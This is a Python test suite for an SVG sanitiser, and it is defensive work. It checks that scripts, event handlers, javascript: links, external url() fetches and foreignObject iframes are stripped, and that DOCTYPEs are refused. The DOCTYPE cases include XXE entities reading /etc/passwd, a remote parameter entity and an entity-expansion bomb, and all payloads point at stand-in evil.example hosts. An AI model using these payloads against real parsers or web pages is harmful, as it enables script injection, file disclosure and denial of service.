"""
What is shown of an SVG draws and does nothing else, whatever the SVG is.
"""

from __future__ import annotations

import base64
import io
import re
from collections import Counter
from typing import Any
from xml.etree import ElementTree as ET

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from PIL import Image

from imagesession._model.pictures import read_facts
from imagesession._offline.sketch import render, start
from imagesession._pixels.svg import MAX_BYTES, MAX_DEPTH, MAX_NODES, sanitise
from imagesession.errors import CallError, PictureError
from tests.pixels.making import encoded, noise

XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
KEPT = '<rect id="kept" width="9" height="9"/>'
# Each carries the word "evil" wherever it does harm, so what is left of it can be seen.
ATTACKS = {
    "script": "<script>evil()</script>",
    "script from elsewhere": '<script href="https://evil.example/x.js"/>',
    "script of another namespace": '<h:script xmlns:h="http://www.w3.org/1999/xhtml">evil()'
    "</h:script>",
    "handler": '<g onload="evil()" ONCLICK="evil()"/>',
    "link that runs": f'<a {XLINK} xlink:href="javascript:evil()"><text>x</text></a>',
    "foreign content": "<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' "
    "src='https://evil.example'/></foreignObject>",
    "style sheet": "<style>@import url(https://evil.example/x.css); .evil{}</style>",
    "style": '<g style="fill:url(https://evil.example/x)"/>',
    "style in an attribute": '<g fill="url(https://evil.example/x#y)" mask="url(//evil.example#z)"'
    ' filter="url(&quot;evil.svg#f&quot;)" marker="u\\72l(evil.svg#f)" stroke="image(evil.png)"'
    ' clip-path="url(#ok) url(evil.svg#f)" font-family="url&#10;(evil.svg#f)"'
    ' cursor="url(evil.cur)"/>',
    "animation of a link": '<a><animate attributeName="href" values="javascript:evil()"/></a>',
    "animation of a handler": '<g><set attributeName="onmouseover" to="evil()"/>'
    '<animateTransform onbegin="evil()"/><animateMotion><mpath href="evil.svg#p"/></animateMotion>'
    "</g>",
    "use from elsewhere": f'<g {XLINK}><use xlink:href="https://evil.example/x.svg#y"/>'
    '<use href="data:image/svg+xml;base64,evil#y"/></g>',
    "image from elsewhere": '<image href="https://evil.example/track.png"/>'
    '<image href="data:image/svg+xml;utf8,evil"/><image href="file:///evil"/>',
    "filter from elsewhere": '<filter id="f"><feImage href="https://evil.example/x"/></filter>',
    "comments and instructions": '<!-- evil --><?xml-stylesheet href="evil.css"?><?evil?>',
    "other words": '<g xml:base="https://evil.example/" xmlns:e="evil" e:evil="evil" '
    'data-evil="evil" class="evil"><e:evil>evil</e:evil><video src="evil"/><embed src="evil"/>'
    '<handler>evil</handler><listener handler="#evil"/><iframe src="evil"/><audio src="evil"/></g>',
}
REFUSED = {
    "a file's text": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "a bomb": '<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    "a parameter": '<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>',
    "a plain one": '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
}
PAINTED = [
    "a cat with the words 'Hi & <bye>'",
    "a misty city skyline at dusk",
    "a pastel teapot",
    "a blurred watercolor bicycle under a full moon",
    "an icon of a heart",
]


def document(inner: str) -> bytes:
    """
    Write an SVG around elements.
    """
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">{inner}</svg>'
    return svg.encode("utf-8", "surrogatepass")


def contents(data: bytes) -> Counter[Any]:
    """
    Count a document's elements, each with its attributes and words.
    """
    return Counter(
        (one.tag, tuple(sorted(one.attrib.items())), (one.text or "").strip())
        for one in ET.fromstring(data).iter()  # noqa: S314 - the painter's, or made safe
    )


def check_harmless(data: bytes) -> None:
    """
    Look for what does more than draw, in another way than the code under test does.
    """
    assert not re.search(rb"<[!?]", data)
    for one in ET.fromstring(data).iter():  # noqa: S314 - it was made safe
        space, _, word = one.tag.removeprefix("{").partition("}")
        assert space == "http://www.w3.org/2000/svg"
        assert not re.match(r"(script|style|a|set|animate.*|foreignObject|feImage|handler)$", word)
        for name, value in one.attrib.items():
            assert not re.match(r"on|style|class|\{(?!http://www.w3.org/XML)", name)
            rest = re.sub(r"""url\(\s*(["']?)#[\w.:-]+\1\s*\)""", "", value)
            assert not re.search(r"(url|image|src)\s*\(|\\|script:", rest) or name in {"href", "id"}
            if name == "href":
                assert re.match(r"#|data:image/(png|jpeg|gif|webp);base64,[\w+/=]*$", value)


def repeated(*steps: str) -> bytes:
    """
    Write an SVG whose parts refer to each other, the last to the one before, ten times each.
    """
    parts = ['<g id="p0"><rect width="1" height="1"/></g>']
    for number, step in enumerate(steps, 1):
        parts.append(f'<g id="p{number}">{step.format(number - 1) * 10}</g>')
    return document("".join(parts))


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_no_attack_is_left(attack: str) -> None:
    """
    Nothing of what runs, fetches or links is left, and what only draws is.
    """
    shown = sanitise(document(f"{KEPT}{attack}<g>{attack}</g>"))
    assert b"evil" not in shown
    assert KEPT.encode() in shown
    check_harmless(shown)


@pytest.mark.parametrize("doctype", REFUSED.values(), ids=REFUSED)
def test_doctypes_are_refused(doctype: str) -> None:
    """
    A document that could name entities is refused before any is read.
    """
    with pytest.raises(PictureError, match="Teapot has a DOCTYPE"):
        sanitise(doctype.encode() + document("<text>&x;&b;</text>"), "Teapot")


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"\x89PNG\r\n\x1a\n",
        b"<svg/>",
        b'<svg xmlns="http://www.w3.org/1999/xhtml"></svg>',
        b'<g xmlns="http://www.w3.org/2000/svg"></g>',
        document("<g>"),
        document("&nbsp;"),
        document("<g fill='&#1;'/>"),
        b'<?xml version="1.0" encoding="no-such"?><svg/>',
        b'<?xml version="1.0" encoding="hex"?><svg/>',
        document("") * 2,
    ],
)
def test_what_is_no_svg_is_refused(data: bytes) -> None:
    """
    Nothing but a whole, standalone SVG comes through.
    """
    with pytest.raises(PictureError, match="Teapot"):
        sanitise(data, "Teapot")


@pytest.mark.parametrize("prompt", PAINTED)
def test_the_painters_svgs_look_the_same(prompt: str) -> None:
    """
    What the offline provider draws keeps every element, attribute and word, and its size.
    """
    drawn = render(start(prompt, size=(300, 200)), format="svg")
    shown = sanitise(drawn)
    assert contents(shown) == contents(drawn)
    assert read_facts(shown) == read_facts(drawn)


def test_an_edited_svg_looks_the_same() -> None:
    """
    An SVG around a raster picture keeps it, byte for byte.
    """
    base = encoded(noise(), "PNG")
    drawn = render(start("a red hat", size=(128, 96), base=base), format="svg")
    assert b"<image" in drawn
    assert contents(sanitise(drawn)) == contents(drawn)


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "WEBP", "GIF"])
def test_a_picture_within_is_named_what_it_is(kind: str) -> None:
    """
    A raster picture within keeps its bytes, under the type that they have.
    """
    coded = base64.b64encode(encoded(noise(), kind)).decode()
    shown = sanitise(document(f'<image width="9" href=" data:image/jpg;base64,\n{coded}"/>'))
    expected = f'<image width="9" href="data:image/{kind.lower()};base64,{coded}"/>'
    assert expected.encode() in shown


@pytest.mark.parametrize("within", [KEPT.encode(), document(KEPT), b"", b"GIF89a"])
def test_a_picture_within_that_is_none_is_left_out(within: bytes) -> None:
    """
    What says that it is a raster picture, and is not, is left out, and so is what is no base64.
    """
    coded = base64.b64encode(within).decode()
    for href in (f"data:image/png;base64,{coded}", f"data:image/png;base64,!{coded}"):
        assert b"image" not in sanitise(document(f'<image href="{href}"/>'))


def test_a_picture_within_can_be_too_large() -> None:
    """
    A picture of too many pixels is refused within an SVG as it is by itself.
    """
    file = io.BytesIO()
    Image.new("1", (8001, 8000)).save(file, "PNG")
    coded = base64.b64encode(file.getvalue()).decode()
    with pytest.raises(PictureError, match="picture in Teapot has 8001x8000 pixels"):
        sanitise(document(f'<image href="data:image/png;base64,{coded}"/>'), "Teapot")


def test_what_draws_is_kept_as_it_is() -> None:
    """
    Gradients, filters, clips, patterns and references within the document stay.
    """
    inner = (
        '<defs><linearGradient id="a"><stop offset="0" stop-color="rgb(1, 2, 3)"/></linearGradient>'
        '<clipPath id="b"><circle r="4"/></clipPath><pattern id="c" width="2" height="2"/>'
        '<filter id="d"><feGaussianBlur stdDeviation="2"/></filter></defs>'
        '<g clip-path="url(#b)" filter="url(#d) blur(2px)" transform="translate(1 2) scale(2)">'
        '<path d="M0 0L9 9Z" fill="url(#a) none" stroke="url(\'#c\')"/><use href="#kept"/></g>'
        '<text font-family="\'Noto Sans\', sans-serif" xml:space="preserve">a  b<tspan>'
        "&lt;c&gt;</tspan> &amp; d</text>"
    )
    expected = document(inner)
    assert sanitise(expected) == expected


def test_old_references_are_written_the_new_way() -> None:
    """
    A reference of the older kind stays one, without its namespace.
    """
    shown = sanitise(document(f'<use {XLINK} xlink:href="#kept"/>{KEPT}'))
    assert shown == document(f'<use href="#kept"/>{KEPT}')


def test_extensions_are_not_there() -> None:
    """
    What asks for an extension is left out, as it is never drawn.
    """
    inner = f'<switch><g requiredExtensions="https://x.example"/>{KEPT}</switch>'
    assert sanitise(document(inner)) == document(f"<switch>{KEPT}</switch>")


def test_too_many_bytes() -> None:
    """
    A document over the limit is refused before it is read.
    """
    with pytest.raises(PictureError, match=r"Teapot has 8.0 MB; the limit is 8 MB"):
        sanitise(document("").ljust(MAX_BYTES + 1), "Teapot")
    assert sanitise(document("").ljust(MAX_BYTES)) == document("")


def test_too_many_bytes_once_rebuilt() -> None:
    """
    What comes out keeps to the limit as well.
    """
    with pytest.raises(PictureError, match=r"Teapot has 12.0 MB as rebuilt text"):
        sanitise(document("<text>" + ">" * 3_000_000 + "</text>"), "Teapot")


def test_too_many_elements() -> None:
    """
    The limit of elements counts those as well that are left out.
    """
    assert sanitise(document("<g/>" * (MAX_NODES - 1)))
    with pytest.raises(PictureError, match="Teapot has too many elements; the limit is 200,000"):
        sanitise(document("<evil/>" * MAX_NODES), "Teapot")


def test_too_deep() -> None:
    """
    The limit of depth counts those as well that are left out.
    """
    for word in ("g", "evil"):
        depth = MAX_DEPTH - 1
        assert sanitise(document(f"<{word}>" * depth + f"</{word}>" * depth))
        with pytest.raises(PictureError, match=r"Teapot has elements within .* limit is 64"):
            sanitise(document(f"<{word}>" * (depth + 1)), "Teapot")


@pytest.mark.parametrize(
    "step", ['<use href="#p{}"/>', '<rect fill="url(#p{})"/>', "<g mask=\"url( '#p{}' )\"/>"]
)
def test_repetitions_are_counted(step: str) -> None:
    """
    A few lines that draw each other ten times over and over are refused; twice or so is usual.
    """
    assert sanitise(repeated(step, step, step))
    with pytest.raises(PictureError, match=r"Teapot repeats its parts .* 1,000,000 elements"):
        sanitise(repeated(*[step] * 12), "Teapot")


def test_references_in_a_circle_or_too_deep() -> None:
    """
    References end.
    """
    chain = [f'<g id="p{number}"><use href="#p{number - 1}"/></g>' for number in range(70)]
    for steps in (chain, chain[::-1], ['<g id="a"><use href="#b"/></g><use id="b" href="#a"/>']):
        with pytest.raises(PictureError, match=r"Teapot has references .* 64 deep"):
            sanitise(document("".join(steps)), "Teapot")
    assert sanitise(document("".join(chain[:60])))


def test_a_gradient_serves_many() -> None:
    """
    Gradients may be referred to as often as one likes.
    """
    stops = '<stop offset="0"/>' * 100
    inner = f'<linearGradient id="a">{stops}</linearGradient>' + '<g fill="url(#a)"/>' * 11_000
    assert sanitise(document(inner)) == document(inner)


@pytest.mark.parametrize("run", ["a", "url(", "( ", "a ", "url(#a", "#"])
def test_long_values_take_no_longer_than_they_are(run: str) -> None:
    """
    No value makes a search take more than linear time: some millions of characters end soon.
    """
    value = run * (3_000_000 // len(run))
    assert sanitise(document(f'<g fill="{value}" id="{value}"/>'))


WORDS = "svg g rect text tspan use title filter a script style set animate image feImage x:y"
NAMES = "id fill href filter x:href style onload d transform xml:space requiredExtensions in"
PIECES = "url( ) #a # ' none javascript: rgb( \\ é & evil.svg"
words = st.sampled_from(WORDS.split(" "))
attributes = st.sampled_from(NAMES.split(" "))
pieces = st.sampled_from([*PIECES.split(" "), *" \t\r\n"])
values = st.lists(pieces | st.text(max_size=3), max_size=5).map("".join)


def element(children: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    """
    Write elements, allowed and others, around what there is.
    """

    def write(word: str, given: dict[str, str], inner: list[str]) -> str:
        told = "".join(f" {name}={quoted(value)}" for name, value in given.items())
        return f"<{word}{told}>{''.join(inner)}</{word}>"

    given = st.dictionaries(attributes, values, max_size=3)
    return st.builds(write, words, given, st.lists(children, max_size=3))


def quoted(value: str) -> str:
    """
    Write an attribute's value, each character by its number.
    """
    return '"' + "".join(f"&#{ord(one)};" for one in value) + '"'


def check_result(data: bytes) -> bool:
    """
    Make a document safe if it can be, look at what came of it, and tell whether any did.
    """
    try:
        shown = sanitise(data)
    except PictureError:
        return False
    check_harmless(shown)
    assert sanitise(shown) == shown
    assert read_facts(shown) is not None
    return True


@given(st.recursive(st.text().map(lambda text: text.replace("<", "&lt;")), element, max_leaves=12))
@example("<text>\r&#13;\r\n]]&gt;</text><title>&#x85;&#x2028;</title>")
@example("<text>a<script>b</script>c<tspan/>d</text>e")
def test_any_document_becomes_harmless(inner: str) -> None:
    """
    Whatever a document says, what is shown of it is harmless, and stays as it is a second time.
    """
    check_result(document(f'<g xmlns:x="http://www.w3.org/1999/xlink">{inner}</g>'))


@settings(max_examples=300)
@given(st.lists(st.tuples(st.integers(0, 10**4), st.integers(0, 255)), max_size=3))
def test_damaged_documents_become_harmless(flips: list[tuple[int, int]]) -> None:
    """
    A document with any bytes changed is refused, or what is shown of it is harmless.
    """
    data = bytearray(document("".join(ATTACKS.values())))
    for at, byte in flips:
        data[at % len(data)] = byte
    assert check_result(bytes(data)) or flips


@given(
    st.binary(),
    st.sampled_from(["", "utf-8", "utf-16", "latin-1", "utf-7", "idna", "é", "cp037", "mbcs"]),
)
def test_any_bytes_in_any_encoding(data: bytes, encoding: str) -> None:
    """
    Whatever bytes are said to be encoded in, they are refused in our words or become harmless.
    """
    head = f"<?xml version='1.0' encoding='{encoding}'?>".encode() if encoding else b""
    check_result(head + document("<text>@</text>").replace(b"@", data))
    check_result(data)


def test_other_encodings_are_read() -> None:
    """
    A document in another encoding says the same, in UTF-8.
    """
    text = document("<text>Größe</text>").decode()
    for encoding in ("utf-16", "iso-8859-1", "cp1252"):
        told = f"<?xml version='1.0' encoding='{encoding}'?>{text}".encode(encoding)
        assert sanitise(told).decode() == text


def test_a_kept_svg_is_safe_to_show(studio: Any) -> None:
    """
    A kept SVG is shown rebuilt while its file stays as it came; other formats are safe as they are.
    """
    image = studio.generate("a teapot", format="svg")
    assert image.safe_svg == sanitise(image.bytes)
    assert contents(image.safe_svg) == contents(image.bytes)
    with pytest.raises(CallError, match="is a PNG, which is safe to show as it is"):
        _ = studio.generate("a teapot").safe_svg
